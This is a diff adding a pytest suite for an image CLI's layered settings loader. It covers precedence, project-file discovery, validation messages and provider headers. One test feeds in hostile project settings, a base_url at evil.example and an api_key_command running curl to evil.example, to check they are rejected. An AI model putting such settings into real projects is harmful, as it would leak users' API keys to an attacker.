@@ -1,0 +1,261 @@
+"""Which of several settings counts, where it came from, and what a settings file may not say."""
+
+from __future__ import annotations
+
+import os
+from collections.abc import Mapping
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from imagecli import config
+from imagecli.catalog import load
+from imagecli.config.table import SETTINGS
+from imagecli.domain import Size
+from imagecli.env import Env
+from imagecli.errors import AuthenticationError, SettingsError, UsageError
+from tests.conftest import NOW, Stream
+
+LOCAL = {"base_url": "http://127.0.0.1:1/v1"}
+
+
+class Home:
+    """A user's settings, a repository with a project in it, and an environment."""
+
+    def __init__(self, place: Path) -> None:
+        self.config, self.project = place / "config", place / "repository" / "deep" / "er"
+        self.config.mkdir()
+        self.project.mkdir(parents=True)
+        (place / "repository" / ".git").mkdir()
+        self.environ = {"IMAGECLI_CONFIG_DIR": str(self.config), "IMAGECLI_STATE_DIR": str(place / "state")}
+
+    def user(self, text: str, name: str = "config.toml") -> Path:
+        (self.config / name).write_text(text)
+        return self.config / name
+
+    def in_project(self, text: str, up: int = 2) -> Path:
+        path = [self.project, *self.project.parents][up - 1] / "imagecli.toml"
+        path.write_text(text)
+        return path
+
+    def load(self, flags: Mapping[str, Any] = LOCAL, environ: Mapping[str, str] | None = None) -> config.Settings:
+        env = Env(
+            stdin=Stream(),
+            stdout=Stream(),
+            stderr=Stream(),
+            environ={**self.environ, **(environ or {})},
+            now=lambda: NOW,
+        )
+        return config.load(flags, env, load(), self.project)
+
+
+@pytest.fixture
+def home(tmp_path: Path) -> Home:
+    return Home(tmp_path)
+
+
+@pytest.mark.parametrize(
+    ("written", "value", "origin"),
+    [
+        ("flag environment project user", "from-flag", "--model"),
+        ("environment project user", "from-environment", "IMAGECLI_MODEL"),
+        ("project user", "from-project", "imagecli.toml"),
+        ("user", "from-user", "config.toml"),
+        ("", None, None),
+    ],
+)
+def test_the_nearest_setting_counts(home: Home, written: str, value: str | None, origin: str | None) -> None:
+    if "user" in written:
+        home.user('model = "from-user"')
+    if "project" in written:
+        home.in_project('model = "from-project"')
+    environ = {"IMAGECLI_MODEL": "from-environment"} if "environment" in written else {}
+    settings = home.load(LOCAL | ({"model": "from-flag"} if "flag" in written else {}), environ)
+    assert settings.values.get("model") == value
+    found = settings.origins.get("model")
+    assert (Path(found).name if found else None) == origin
+
+
+def test_layers_are_merged_setting_by_setting(home: Home) -> None:
+    home.user('model = "m"\nsize = "512x512"\ntimeout = 5')
+    home.in_project('size = "auto"\nif_exists = "skip"')
+    settings = home.load(
+        LOCAL | {"timeout": None, "unknown": 5}, {"IMAGECLI_MAX_RETRIES": "4", "IMAGECLI_SIZE": "256x256"}
+    )
+    assert settings.values == LOCAL | {
+        "model": "m",
+        "size": Size(256, 256),
+        "timeout": 5.0,
+        "if_exists": "skip",
+        "max_retries": 4,
+    }
+    assert (settings.timeout, settings.max_retries, settings.max_wait) == (5.0, 4, 120.0)
+
+
+def test_without_any_setting_the_defaults_hold(home: Home) -> None:
+    settings = home.load({}, {"OPENAI_API_KEY": "sk-1"})
+    assert (settings.provider.name, settings.base_url) == ("openai", "https://api.openai.com/v1")
+    assert (settings.timeout, settings.max_retries, settings.max_wait, settings.values) == (None, 2, 120.0, {})
+
+
+@pytest.mark.parametrize("up", [1, 2, 3])
+def test_a_project_file_is_found_up_to_the_repository_and_no_further(home: Home, up: int) -> None:
+    home.in_project('model = "p"', up)
+    assert home.load().values["model"] == "p"
+
+
+def test_a_file_above_the_repository_is_not_the_projects(home: Home) -> None:
+    home.in_project('model = "p"', 4)
+    assert "model" not in home.load().values
+
+
+def test_the_nearest_project_file_is_the_only_one(home: Home) -> None:
+    home.in_project('model = "far"\nsize = "auto"', 3)
+    home.in_project('model = "near"', 1)
+    assert home.load().values == LOCAL | {"model": "near"}
+
+
+@pytest.mark.parametrize(
+    "text",
+    ['base_url = "http://evil.example/v1"', '[providers.openai]\napi_key_command = ["curl", "evil.example"]'],
+)
+def test_a_project_file_can_t_say_where_the_key_goes(home: Home, text: str) -> None:
+    path = home.in_project(text)
+    with pytest.raises(SettingsError) as caught:
+        home.load()
+    assert caught.value.message.startswith(f"{path} sets {text.split()[0].strip('[').partition('.')[0]}, which a")
+
+
+@pytest.mark.parametrize(
+    ("text", "words", "hint"),
+    [
+        ("model = \n", "line 1", "mend"),
+        ('size = "auto"\nmodel = x', "line 2", "mend"),
+        ("\x00", "not TOML", "mend"),
+        ("a = " + "[" * 20_000, "not TOML", "mend"),
+        ('modle = "x"', "no setting 'modle'", "did you mean model?"),
+        ('api_key = "sk-1"', "no setting 'api_key'", "model"),
+        ("size = 5", "size 5: text is wanted", "WIDTHxHEIGHT"),
+        ('size = "big"', "size 'big' is not WIDTHxHEIGHT", "1024x1024"),
+        ('model = ""', "text is wanted", "the model"),
+        ("model = true", "text is wanted", "the model"),
+        ('if_exists = "ask"', "one of number, skip, overwrite, fail is wanted", "if_exists"),
+        ('if_exists = ["skip"]', "is wanted", "if_exists"),
+        *[(f"timeout = {value}", "number of seconds above 0", "timeout") for value in ("0", "-1", "nan", "inf", "[]")],
+        *[(f"timeout = {value}", "number of seconds above 0", "") for value in ("true", '"soon"', "1e20", "9" * 400)],
+        *[(f"max_retries = {value}", "whole number from 0", "again") for value in ("-1", "2.5", "inf", "nan", "{}")],
+        *[(f"max_retries = {value}", "whole number from 0", "") for value in ("true", '"two"', "1e20", "9" * 400)],
+        ("providers = 5", "providers", "[providers.openai]"),
+        ("providers.openai = 5", "providers", "[providers.openai]"),
+        ("[providers.opnai]", "no provider 'opnai'", "did you mean openai?"),
+        ('[providers.openai]\napi_key = "sk-1"', "no setting in [providers.openai] 'api_key'", "api_key_command"),
+    ],
+)
+def test_a_wrong_line_is_named_with_its_file(home: Home, text: str, words: str, hint: str) -> None:
+    path = home.user(text)
+    with pytest.raises(SettingsError) as caught:
+        home.load()
+    assert str(path) in caught.value.message
+    assert words in caught.value.message
+    assert hint in (caught.value.hint or "")
+    assert "sk-1" not in caught.value.message
+    assert len(caught.value.message) < 800
+
+
+@pytest.mark.parametrize(
+    ("variable", "value"),
+    [("IMAGECLI_TIMEOUT", "soon"), ("IMAGECLI_MAX_RETRIES", "1.5"), ("IMAGECLI_SIZE", "big")],
+)
+def test_a_wrong_variable_is_named(home: Home, variable: str, value: str) -> None:
+    with pytest.raises(SettingsError, match=variable):
+        home.load(LOCAL, {variable: value})
+
+
+@pytest.mark.parametrize("flags", [{"timeout": float("nan")}, {"max_wait": -1.0}, {"size": "big"}])
+def test_a_wrong_flag_is_named(home: Home, flags: dict[str, Any]) -> None:
+    with pytest.raises(SettingsError, match="--" + next(iter(flags)).replace("_", "-")):
+        home.load(flags)
+
+
+def test_a_file_that_can_t_be_read_is_named(home: Home) -> None:
+    (home.config / "config.toml").mkdir()
+    with pytest.raises(SettingsError, match=r"config\.toml can't be read"):
+        home.load()
+    (home.config / "config.toml").rmdir()
+    (home.config / "config.toml").write_bytes(b'model = "\xff"')
+    with pytest.raises(SettingsError, match=r"config\.toml can't be read"):
+        home.load()
+
+
+def test_an_editors_byte_order_mark_is_no_error(home: Home) -> None:
+    home.user('\ufeffmodel = "m"')
+    assert home.load().values["model"] == "m"
+
+
+def test_an_empty_variable_is_a_missing_one(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("IMAGECLI_MODEL", "")
+    monkeypatch.setenv("OPENAI_API_KEY", "")
+    environ = Env.real().environ
+    assert "IMAGECLI_MODEL" not in environ
+    assert "OPENAI_API_KEY" not in environ
+    assert environ["PATH"] == os.environ["PATH"]
+
+
+def test_organization_and_project_become_headers_of_their_provider(home: Home) -> None:
+    own = {"OPENAI_ORG_ID": " org-1\n", "OPENAI_PROJECT_ID": "proj_1"}
+    assert home.load(LOCAL, own).headers == {"OpenAI-Organization": "org-1", "OpenAI-Project": "proj_1"}
+    assert home.load({"provider": "sandbox"}, own).headers == {}
+    assert home.load(LOCAL, {"OPENAI_ORG_ID": "  "}).headers == {}
+    for text in ("org\r\nX: 1", "“org”"):
+        with pytest.raises(SettingsError, match="OPENAI_ORG_ID"):
+            home.load(LOCAL, {"OPENAI_ORG_ID": text})
+
+
+def test_the_sandbox_reads_no_providers_variables(home: Home) -> None:
+    openai = {"OPENAI_API_KEY": "sk-1", "OPENAI_BASE_URL": "http://127.0.0.1:1/v1"}
+    settings = home.load({"provider": "sandbox"}, openai)
+    assert (settings.key, settings.base_url, settings.headers) == (None, "", {})
+
+
+def test_the_sandbox_and_a_typed_base_url_exclude_each_other(home: Home) -> None:
+    with pytest.raises(UsageError, match="no base URL"):
+        home.load(LOCAL | {"provider": "sandbox"})
+    home.user('base_url = "http://127.0.0.1:1/v1"')
+    assert home.load({"provider": "sandbox"}).base_url == ""
+
+
+def test_the_base_url_has_its_own_order(home: Home) -> None:
+    own = {"OPENAI_BASE_URL": "http://127.0.0.1:1/own"}
+    assert home.load({}, own).base_url == "http://127.0.0.1:1/own"
+    home.user('base_url = "http://127.0.0.1:1/user"')
+    assert home.load({}, own).base_url == "http://127.0.0.1:1/user"
+    assert home.load(LOCAL, own).base_url == LOCAL["base_url"]
+
+
+def test_an_unknown_provider_is_answered_with_the_known(home: Home) -> None:
+    with pytest.raises(UsageError, match="no provider 'x'") as caught:
+        home.load({"provider": "x"})
+    assert "openai" in (caught.value.hint or "")
+
+
+@pytest.mark.parametrize(
+    ("base_url", "warned"),
+    [("http://api.example/v1", True), ("https://api.example/v1", False), ("http://10.0.0.7/v1", False)],
+)
+def test_a_key_in_clear_to_a_public_host_is_warned_of(home: Home, base_url: str, warned: bool) -> None:
+    codes = [code for code, _ in home.load({"base_url": base_url}, {"OPENAI_API_KEY": "sk-1"}).warnings]
+    assert codes == (["insecure_base_url"] if warned else [])
+
+
+def test_no_key_tells_the_three_ways_and_the_sandbox(home: Home) -> None:
+    with pytest.raises(AuthenticationError) as caught:
+        home.load({})
+    hint = caught.value.hint or ""
+    assert caught.value.exit_code == 3
+    for way in ("export OPENAI_API_KEY", "credentials.toml", "api_key_command", "--provider sandbox"):
+        assert way in hint
+
+
+def test_every_setting_says_what_it_is_about() -> None:
+    assert all(setting.about for setting in SETTINGS.values())
